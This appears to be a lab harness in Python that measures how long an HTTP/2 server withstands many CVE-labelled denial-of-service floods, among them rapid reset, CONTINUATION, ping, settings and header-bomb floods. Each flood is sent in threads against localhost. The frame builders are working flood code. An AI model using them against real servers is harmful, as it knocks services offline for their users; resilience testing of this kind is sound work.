"""Floods of HTTP/2: what each sends without end, and how long the server lets it.

The numbers are those of the attacks' reports. Every flood is sent as fast as the server takes it, on several
connections; one that the server has closed is opened anew at once.
"""

from __future__ import annotations

import itertools
import json
import select
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from lab import held_clients
from lab.tls import frames
from lab.tls.frames import END_HEADERS, END_STREAM, frame, head, number, request, setting

SMALL = "/1k.txt"
LARGE = "/files/1m.txt"
BATCH = 256
STREAMS = 100
SEND_S = 0.2
CONNECT_TIMEOUT_S = 5.0
# Opens no window: streams can be asked for and send nothing.
SHUT = 0


@dataclass(frozen=True)
class Flood:
    """Pieces to send after the preface, without end or until all is said; `is_read` says whether the client
    takes what the server answers."""

    pieces: Callable[[], Iterator[bytes]]
    window: int = frames.WIDE
    is_read: bool = True


def streams() -> Iterator[int]:
    """Numbers of a client's streams."""
    return itertools.count(1, 2)


def rapid_resets() -> Iterator[bytes]:
    """CVE-2023-44487."""
    return _each_stream(
        lambda it: request(it, SMALL) + frame(frames.RST_STREAM, 0, it, number(8)),
    )


def made_resets() -> Iterator[bytes]:
    """CVE-2025-8671: the server resets, because the client steps over a rule."""
    return _each_stream(lambda it: request(it, SMALL) + frame(frames.WINDOW_UPDATE, 0, it, number(0)))


def continuations() -> Iterator[bytes]:
    """CVE-2024-27316: a header block that never ends, of fields."""
    yield frame(frames.HEADERS, 0, 1, head(SMALL))
    fields = b"\x00\x06x-long\x7f\x81\x0b" + b"a" * 1536
    yield from itertools.repeat(frame(frames.CONTINUATION, 0, 1, fields * 8))


def empty_continuations() -> Iterator[bytes]:
    """The same without a byte of content."""
    yield frame(frames.HEADERS, 0, 1, head(SMALL))
    yield from itertools.repeat(frame(frames.CONTINUATION, 0, 1) * BATCH)


def header_bomb() -> Iterator[bytes]:
    """CVE-2026-49975: a field in the dynamic table, then one byte for each time that it is meant again."""
    # With incremental indexing (0x40), a name of 6 and a value of 3,000 bytes.
    first = head(SMALL) + b"\x40\x06x-bomb\x7f\xb9\x16" + b"b" * 3000
    yield frame(frames.HEADERS, END_HEADERS | END_STREAM, 1, first)
    for stream in itertools.count(3, 2):
        block = head(SMALL) + b"\xbe" * 16_000
        yield frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, block)


def nameless_fields() -> Iterator[bytes]:
    """CVE-2019-9516: fields without a name or a value."""
    block = head(SMALL) + b"\x00\x00\x00" * 1000
    return _each_stream(lambda it: frame(frames.HEADERS, END_HEADERS | END_STREAM, it, block), 4)


def pings() -> Iterator[bytes]:
    """CVE-2019-9512."""
    return itertools.repeat(frame(frames.PING, 0, 0, b"12345678") * BATCH)


def settings() -> Iterator[bytes]:
    """CVE-2019-9515."""
    return itertools.repeat(frame(frames.SETTINGS, 0, 0) * BATCH)


def window_flips() -> Iterator[bytes]:
    """Each changes the windows of all streams."""
    yield b"".join(request(stream, LARGE) for stream in itertools.islice(streams(), STREAMS))
    sizes = (frame(frames.SETTINGS, 0, 0, setting(frames.INITIAL_WINDOW_SIZE, size)) for size in (1, 0))
    yield from itertools.repeat(b"".join(sizes) * (BATCH // 2))


def priorities() -> Iterator[bytes]:
    """CVE-2019-9513."""
    one, other = (frame(frames.PRIORITY, 0, 5, number(above) + b"\x10") for above in (3, 1))
    return itertools.repeat((one + other) * (BATCH // 2))


def empty_data() -> Iterator[bytes]:
    """CVE-2019-9518."""
    yield frame(frames.HEADERS, END_HEADERS, 1, head(SMALL, "POST"))
    yield from itertools.repeat(frame(frames.DATA, 0, 1) * BATCH)


def small_data() -> Iterator[bytes]:
    """A byte of a body in each frame."""
    yield frame(frames.HEADERS, END_HEADERS, 1, head(SMALL, "POST"))
    yield from itertools.repeat(frame(frames.DATA, 0, 1, b"a") * BATCH)


def dribble() -> Iterator[bytes]:
    """CVE-2019-9511: large responses, whose windows open by a byte."""
    yield b"".join(request(stream, LARGE) for stream in itertools.islice(streams(), STREAMS))
    each = (frame(frames.WINDOW_UPDATE, 0, it, number(1)) for it in itertools.islice(streams(), STREAMS))
    yield from itertools.repeat(b"".join(each))


def shut_windows() -> Iterator[bytes]:
    """Large responses, whose windows stay shut."""
    yield b"".join(request(stream, LARGE) for stream in itertools.islice(streams(), STREAMS))


def _each_stream(piece: Callable[[int], bytes], batch: int = BATCH) -> Iterator[bytes]:
    numbers = streams()
    while True:
        yield b"".join(piece(stream) for stream in itertools.islice(numbers, batch))


FLOODS = {
    "rapid resets": Flood(rapid_resets),
    "made resets": Flood(made_resets),
    "continuations": Flood(continuations),
    "empty continuations": Flood(empty_continuations),
    "header bomb": Flood(header_bomb, SHUT),
    "nameless fields": Flood(nameless_fields),
    "pings": Flood(pings),
    "pings, answers not read": Flood(pings, is_read=False),
    "settings": Flood(settings),
    "window flips": Flood(window_flips, SHUT),
    "priorities": Flood(priorities),
    "empty data": Flood(empty_data),
    "small data": Flood(small_data),
    "dribble": Flood(dribble, SHUT),
    "shut windows": Flood(shut_windows, SHUT),
    # CVE-2019-9517: wide windows of HTTP/2 over a shut one of TCP.
    "responses not read": Flood(shut_windows, is_read=False),
}


class Attackers:
    """Connections that flood, each on a thread of its own."""

    def __init__(self, port: int, kind: str, connections: int) -> None:
        self._flood = FLOODS[kind.replace("_", " ")]
        self._port = port
        self._sent_bytes = 0
        self._closed = 0
        self._longest_s = 0.0
        self._began_s: dict[int, float] = {}
        for number_ in range(connections):
            threading.Thread(target=self._attack, args=(number_,), daemon=True).start()

    def answer(self) -> str:
        # The longest flood may still be under way.
        open_s = [time.monotonic() - began_s for began_s in list(self._began_s.values())]
        counted = {"sent_bytes": self._sent_bytes, "closed": self._closed}
        return json.dumps(counted | {"longest_s": max([self._longest_s, *open_s])})

    def last_words(self) -> str:
        return ""

    def _attack(self, thread: int) -> None:
        while True:
            try:
                with socket.create_connection(("127.0.0.1", self._port), CONNECT_TIMEOUT_S) as client:
                    self._began_s[thread] = time.monotonic()
                    self._send_all(client)
            except OSError:
                if began_s := self._began_s.pop(thread, None):
                    self._closed += 1
                    self._longest_s = max(self._longest_s, time.monotonic() - began_s)
                else:
                    time.sleep(SEND_S)

    def _send_all(self, client: socket.socket) -> None:
        """Sends until the server ends the connection. Raises OSError then."""
        client.setblocking(False)
        pieces = self._flood.pieces()
        waiting = frames.opening(self._flood.window)
        is_over = False
        while True:
            reading = [client] if self._flood.is_read else []
            writing = [] if is_over else [client]
            may_read, may_write, _ = select.select(reading, writing, [], SEND_S)
            if may_read and not client.recv(frames.READ_BYTES):
                raise ConnectionResetError
            if may_write:
                sent = client.send(waiting)
                self._sent_bytes += sent
                waiting = waiting[sent:] or next(pieces, b"")
                is_over = not waiting
            if not self._flood.is_read and not held_clients.is_open(client):
                raise ConnectionResetError
